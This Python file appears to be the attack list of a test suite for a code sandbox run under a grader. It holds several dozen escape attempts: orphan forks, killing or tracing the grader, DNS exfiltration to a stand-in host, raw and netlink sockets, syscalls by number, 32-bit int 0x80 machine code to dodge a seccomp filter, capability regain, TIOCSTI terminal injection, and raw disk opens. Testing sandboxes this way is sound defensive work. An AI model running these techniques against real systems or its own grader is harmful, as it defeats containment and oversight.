"""Attacks on other processes, the network and the kernel."""

from attack import Attack

# What would end more than a test if it worked asks for the permission only: signal 0, arguments that can't be right.


def escapes(name: str, what: str, cell: str, leaves: str = "") -> Attack:
    return Attack(name, what, (cell,), ends="refused", leaves=leaves)


def calls(name: str, number: int, arguments: str = "0, 0, 0, 0, 0") -> Attack:
    return Attack(
        f"calls {name}", "A system call by its number, below Python.", (f"call({number}, {arguments})",), ends="refused"
    )


PROCESSES = [
    escapes(
        "forks",
        "A copy of itself that is in nobody's book.",
        """
        if not os.fork():
            time.sleep(600)
            os._exit(0)
        """,
        "process",
    ),
    escapes(
        "forks twice",
        "So that nobody is its parent.",
        """
        if not os.fork():
            os.setsid()
            if not os.fork():
                time.sleep(600)
            os._exit(0)
        """,
        "process",
    ),
    Attack(
        "forks without end",
        "A bomb.",
        (
            """
            for _ in range(99):
                if not os.fork():
                    time.sleep(5)
                    os._exit(0)
            """,
        ),
        ends="raised",
    ),
    escapes("starts a command", "With subprocess.", "subprocess.Popen(['/bin/sleep', '600'])", "process"),
    escapes("becomes a command", "exec, from its own process.", "os.execv('/bin/sleep', ['sleep', '600'])"),
    escapes(
        "becomes a file in memory",
        "memfd_create, and fexecve.",
        """
        held = os.memfd_create('x')
        os.write(held, open('/bin/true', 'rb').read())
        os.execve(held, ['x'], {})
        """,
    ),
    escapes(
        "becomes a file of its own",
        "A script in its folder.",
        """
        open('x', 'w').write('#!/bin/sh')
        os.chmod('x', 0o755)
        os.execv('./x', ['x'])
        """,
    ),
    escapes(
        "spawns",
        "posix_spawn, which is vfork below.",
        "os.posix_spawn('/bin/sleep', ['sleep', '600'], {'OF': MARK})",
        "process",
    ),
    escapes(
        "calls fork by number",
        "Past the C library.",
        """
        if not call(57):
            time.sleep(600)
            os._exit(0)
        """,
        "process",
    ),
    escapes(
        "calls clone for a process",
        "Without CLONE_THREAD.",
        """
        if not call(56, 17, 0, 0, 0, 0):
            time.sleep(600)
            os._exit(0)
        """,
        "process",
    ),
    escapes(
        "calls clone3",
        "Whose flags a filter can't see.",
        """
        if not call(435, ctypes.create_string_buffer(struct.pack('11Q', 0, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)), 88):
            time.sleep(600)
            os._exit(0)
        """,
        "process",
    ),
    escapes("kills the grader", "The process that gives the points.", "os.kill(GRADER, 0)"),
    escapes("kills its parent", "The process that all are forked from.", "os.kill(os.getppid(), 0)"),
    escapes("kills its group", "Its siblings and its parent are in it.", "os.kill(0, 0)"),
    escapes("kills every process", "Whom it may.", "os.kill(-1, 0)"),
    escapes("kills another process", "Of the same user.", "os.kill(OTHER, signal.SIGKILL)", "death"),
    escapes("kills a thread of another process", "tkill and tgkill.", "call(234, OTHER, OTHER, 9)", "death"),
    escapes("kills by descriptor", "pidfd_send_signal.", "signal.pidfd_send_signal(os.pidfd_open(OTHER), 9)", "death"),
    escapes(
        "queues a signal",
        "rt_sigqueueinfo.",
        """
        info = ctypes.create_string_buffer(struct.pack('iii', 9, 0, -1), 128)
        call(129, OTHER, 9, info)
        """,
        "death",
    ),
    escapes(
        "lets the kernel signal",
        "A socket whose owner is another process.",
        """
        import fcntl
        a, b = socket.socketpair()
        fcntl.fcntl(a, fcntl.F_SETOWN, OTHER)
        fcntl.fcntl(a, 10, 9)
        fcntl.fcntl(a, fcntl.F_SETFL, fcntl.fcntl(a, fcntl.F_GETFL) | os.O_ASYNC)
        b.send(b'x')
        """,
        "death",
    ),
    escapes(
        "limits another process",
        "No processor time for the grader.",
        "resource.prlimit(OTHER, resource.RLIMIT_NOFILE, (0, 0))",
        "limited",
    ),
    escapes("slows another process down", "Its priority.", "os.setpriority(os.PRIO_PROCESS, OTHER, 19)", "limited"),
    escapes(
        "binds another process", "To one processor.", "os.sched_setaffinity(OTHER, [min(os.sched_getaffinity(0))])"
    ),
    escapes(
        "takes the processor for itself",
        "A priority of real time.",
        "os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50))",
    ),
    escapes("traces another process", "ptrace.", "call(101, 16, OTHER, 0, 0)"),
    escapes("traces its parent", "ptrace.", "call(101, 0x4206, os.getppid(), 0, 0)"),
    escapes("takes another's descriptor", "pidfd_getfd.", "call(438, call(434, GRADER, 0), 0, 0)"),
]

NETWORK = [
    escapes("connects", "TCP.", "socket.create_connection(('127.0.0.1', TCP)).send(b'x')", "traffic"),
    escapes("connects by IPv6", "TCP.", "socket.socket(socket.AF_INET6).connect(('::1', TCP))"),
    escapes(
        "sends a datagram",
        "UDP.",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', UDP))",
        "traffic",
    ),
    escapes(
        "asks for a page",
        "HTTP.",
        """
        import urllib.request
        urllib.request.urlopen(f'http://127.0.0.1:{TCP}', timeout=0.1)
        """,
        "traffic",
    ),
    Attack(
        "asks for a name",
        "DNS carries secrets out in names.",
        ("socket.getaddrinfo('secret.example.org', 80)",),
        ends="raised",
    ),
    escapes(
        "connects to a socket in a folder",
        "Docker and D-Bus listen there.",
        "socket.socket(socket.AF_UNIX).connect(UNIX)",
        "traffic",
    ),
    escapes(
        "connects to an abstract socket",
        "That lies in no folder.",
        "socket.socket(socket.AF_UNIX).connect(ABSTRACT)",
        "traffic",
    ),
    escapes(
        "sends to a socket in a folder",
        "The system's log reads such.",
        "socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', UNIX_DATAGRAMS)",
        "traffic",
    ),
    escapes(
        "sends through a pair of its own",
        "A pair of datagram sockets may be used to write to any address.",
        "socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0].sendto(b'x', UNIX_DATAGRAMS)",
        "traffic",
    ),
    escapes(
        "sends through a raw pair",
        "Which is of datagrams, too.",
        "socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW)[0].sendto(b'x', UNIX_DATAGRAMS)",
        "traffic",
    ),
    Attack(
        "sends through a stream of its own",
        "A stream has one other end only.",
        (
            """
            here, there = socket.socketpair()
            for attempt in (lambda: here.sendto(b'x', UNIX_DATAGRAMS), lambda: here.connect(UNIX)):
                try:
                    attempt()
                except OSError as error:
                    print(error)
            """,
        ),
        ends="ran",
    ),
    escapes(
        "listens",
        "For a friend to call.",
        """
        a = socket.socket()
        a.bind(('127.0.0.1', 0))
        a.listen()
        """,
    ),
    escapes("listens by a pair", "Under an abstract name.", "socket.socketpair()[0].bind('\\0' + MARK)"),
    escapes("opens a raw socket", "Packets of its own making.", "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"),
    escapes("opens a packet socket", "All packets that pass.", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 768)"),
    escapes("opens a netlink socket", "The kernel's own.", "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)"),
    escapes("opens a socket to the machine's host", "vsock.", "socket.socket(40, socket.SOCK_STREAM)"),
    escapes("opens a socket for ciphers", "AF_ALG had holes.", "socket.socket(38, socket.SOCK_SEQPACKET)"),
]

MACHINE_CODE = """
import mmap
code = mmap.mmap(-1, 4096, prot=7)
code.write(bytes.fromhex({code!r}))
run = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
"""

KERNEL = [
    Attack(
        "calls as a program of 32 bits",
        "int 0x80: other numbers, past a filter of 64 bits. 2 is fork there.",
        (MACHINE_CODE.format(code="53b802000000cd805bc3") + "if run() == 0:\n    os._exit(0)",),
        ends="killed",
    ),
    Attack(
        "calls as a program of x32",
        "Numbers with another bit. 57 is fork.",
        (
            """
            if call(0x40000000 | 57) == 0:
                os._exit(0)
            """,
        ),
        ends="killed",
    ),
    Attack(
        "calls a number of tomorrow", "What does not exist yet is refused beforehand.", ("call(470)",), ends="raised"
    ),
    calls("io_uring_setup", 425, "4, ctypes.create_string_buffer(120)"),
    calls("io_uring_enter", 426),
    calls("userfaultfd", 323, "1"),
    calls("keyctl", 250, "0, -3, 1"),
    calls("add_key", 248, "b'user', b'mine', b'x', 1, -3"),
    calls("bpf", 321, "0, ctypes.create_string_buffer(128), 128"),
    calls("perf_event_open", 298, "ctypes.create_string_buffer(128), 0, -1, -1, 0"),
    calls("unshare for a user of its own", 272, "0x10000000"),
    calls("unshare for mounts of its own", 272, "0x20000"),
    calls("setns", 308, "0, 0"),
    calls("mount", 165, "b'none', b'nowhere', b'tmpfs', 0, None"),
    calls("umount2", 166, "b'.', 2"),
    calls("open_tree", 428, "-100, b'.', 1"),
    calls("fsopen", 430, "b'tmpfs', 0"),
    calls("pivot_root", 155, "b'.', b'.'"),
    calls("chroot", 161, "b'.'"),
    calls("memfd_create", 319, "b'x', 0"),
    calls("memfd_secret", 447, "0"),
    calls("fanotify_init", 300, "4, 0"),
    calls("kcmp", 312, "os.getpid(), GRADER, 0, 0, 0"),
    calls("syslog", 103, "3, ctypes.create_string_buffer(4096), 4096"),
    calls("iopl", 172, "3"),
    calls("settimeofday", 164, "struct.pack('QQ', 0, 2 * 10**6), None"),
    calls("clock_adjtime", 305, "0, ctypes.create_string_buffer(struct.pack('I', 0x2000), 300)"),
    calls("sethostname", 170, "b'mine', 9999"),
    calls("init_module", 175, "b'', 0, b''"),
    calls("kexec_load", 246),
    calls("reboot", 169, "0, 0, 0, 0"),
    calls("swapon", 167, "b'swap', 0"),
    calls("quotactl", 179, "0x80000700, b'/', 0, None"),
    calls("process_vm_writev", 311, "GRADER, None, 0, None, 0, 0"),
    calls("process_madvise", 440, "0, None, 0, 21, 0"),
    Attack(
        "becomes another user",
        "Root may, unless it has lost its capabilities.",
        (
            """
            os.setuid(12345)
            os.setuid(0)
            """,
        ),
        ends="raised",
    ),
    Attack(
        "takes its capabilities back",
        "capset.",
        (
            """
            header = struct.pack('Ii', 0x20080522, 0)
            call(126, header, struct.pack('6I', *[2**32 - 1, 2**32 - 1, 0] * 2))
            """,
        ),
        ends="raised",
    ),
    Attack(
        "ignores who may read",
        "Root reads every file, unless it has lost its capabilities.",
        (
            """
            os.mkdir('closed', 0)
            os.setresuid(0, 0, 0)
            os.chown('closed', 5, 5)
            assert os.stat('closed').st_uid == 5
            """,
        ),
        ends="raised",
    ),
    Attack(
        "freezes the file system",
        "Every write of the machine would wait. (This only tries to thaw it, which needs the same right.)",
        (
            """
            import fcntl
            try:
                fcntl.ioctl(os.open('/usr/lib', os.O_RDONLY), 0xC0045878, 0)
            except PermissionError:
                raise
            except OSError:
                pass
            """,
        ),
        ends="raised",
    ),
    Attack(
        "types into the terminal",
        "TIOCSTI, into whoever's terminal it is.",
        (
            """
            import fcntl, termios
            for descriptor in (0, 1, 2):
                fcntl.ioctl(descriptor, termios.TIOCSTI, b'x')
            """,
        ),
        ends="raised",
    ),
    Attack(
        "writes to the kernel's files",
        "Under /proc/sys and /sys.",
        ("open('/proc/sys/kernel/hostname', 'w')",),
        ends="raised",
    ),
    Attack(
        "opens a disk",
        "The whole of it, past every file's permissions.",
        (
            """
            for name in ('sda', 'vda', 'nvme0n1', 'loop0', 'mem', 'kmem', 'kmsg', 'fuse', 'kvm', 'tty'):
                try:
                    open(f'/dev/{name}', 'rb')
                    take('open: ' + name)
                except (PermissionError, FileNotFoundError):
                    pass
                else:
                    forge(['done'])
            """,
        ),
        ends="ran",
    ),
]

ATTACKS = [*PROCESSES, *NETWORK, *KERNEL]
